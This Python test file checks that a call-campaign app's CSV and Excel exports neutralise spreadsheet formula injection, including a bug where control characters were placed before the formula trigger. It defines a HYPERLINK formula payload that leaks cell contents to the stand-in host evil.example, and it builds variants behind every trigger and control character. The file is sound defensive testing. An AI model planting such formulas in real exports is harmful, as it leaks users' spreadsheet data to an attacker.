"""No exported cell runs as a formula: OWASP's triggers behind every control character, in
every column (contact variables included), in both formats; and any text round-trips inert."""

from __future__ import annotations

import csv
import itertools
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from app.results.export import FORMULA_TRIGGERS, export_calls, neutralise
from app.store.campaigns import create_campaign
from app.store.models import Call, Contact

GENERATED = itertools.count()
CONTROLS = [chr(c) for c in (*range(0x00, 0x20), 0x7F)]
PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"x")'


def hostile_cells() -> list[str]:
    return [f"{control}{trigger}{PAYLOAD}" for trigger in FORMULA_TRIGGERS for control in CONTROLS]


def seed(store, cells: list[str], name: str = "Hostile") -> int:
    """One call per hostile cell: the cell is the contact's name, a variable and the notes."""
    with store.session.begin() as session:
        campaign_id = create_campaign(session, name, caller_id="+15005550006").id
        for i, cell in enumerate(cells):
            contact = Contact(
                campaign_id=campaign_id,
                phone=f"+1202555{i:04d}",
                name=cell,
                fields={"payload": cell, "plain": "gold"},
            )
            session.add(contact)
            session.flush()
            session.add(
                Call(
                    campaign_id=campaign_id,
                    contact_id=contact.id,
                    attempt=1,
                    status="completed",
                    notes=cell,
                    disposition=cell[:60],
                )
            )
    return campaign_id


def exported_cells(store, campaign_id: int, fmt: str, out) -> list[dict]:
    with store.session() as session:
        export_calls(session, campaign_id, fmt, out)
    if fmt == "csv":
        with out.open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle))
    else:
        assert_no_formula_in_the_workbook(out)
        sheet = load_workbook(out).active
        rows = [[c.value for c in row] for row in sheet.iter_rows()]
    header, body = rows[0], rows[1:]
    return [dict(zip(header, row, strict=True)) for row in body]


def assert_no_formula_in_the_workbook(path) -> None:
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    for row in load_workbook(path).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


def is_inert(text: str | None) -> bool:
    """What a spreadsheet sees as plain text: no formula trigger first, once it has skipped
    the spaces and control characters before it."""
    if not text:
        return True
    return text.startswith("'") or not text.lstrip("".join(CONTROLS) + " ").startswith(
        FORMULA_TRIGGERS
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_trigger_behind_every_control_character_is_neutralised(store, tmp_path, fmt):
    cells = hostile_cells()
    campaign_id = seed(store, cells)

    rows = exported_cells(store, campaign_id, fmt, tmp_path / f"calls.{fmt}")

    assert len(rows) == len(cells) == len(FORMULA_TRIGGERS) * len(CONTROLS)
    for row in rows:
        for column in ("name", "payload", "notes", "disposition"):
            assert is_inert(row[column]), (column, row[column])
            assert row[column].startswith("'"), (column, row[column])


def test_xlsx_drops_control_characters_before_it_neutralises(store, tmp_path):
    """The old bug: "\\x01=HYPERLINK(…)" passed the check, then lost its \\x01 and ran."""
    campaign_id = seed(store, ["\x01=HYPERLINK(1)"])
    (row,) = exported_cells(store, campaign_id, "xlsx", tmp_path / "calls.xlsx")
    assert row["payload"] == "'=HYPERLINK(1)"


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=st.text(min_size=1, max_size=40))
def test_any_text_round_trips_as_inert_text(store, tmp_path_factory, text):
    campaign_id = seed(store, [text], name=f"Generated {next(GENERATED)}")
    out = tmp_path_factory.mktemp("export") / "calls.xlsx"
    (row,) = exported_cells(store, campaign_id, "xlsx", out)
    expected = neutralise(ILLEGAL_CHARACTERS_RE.sub("", text)) or None
    assert row["notes"] == expected
    assert is_inert(row["notes"])
    csv_out = out.with_suffix(".csv")
    (csv_row,) = exported_cells(store, campaign_id, "csv", csv_out)
    assert csv_row["notes"] == neutralise(text)
    assert is_inert(csv_row["notes"])
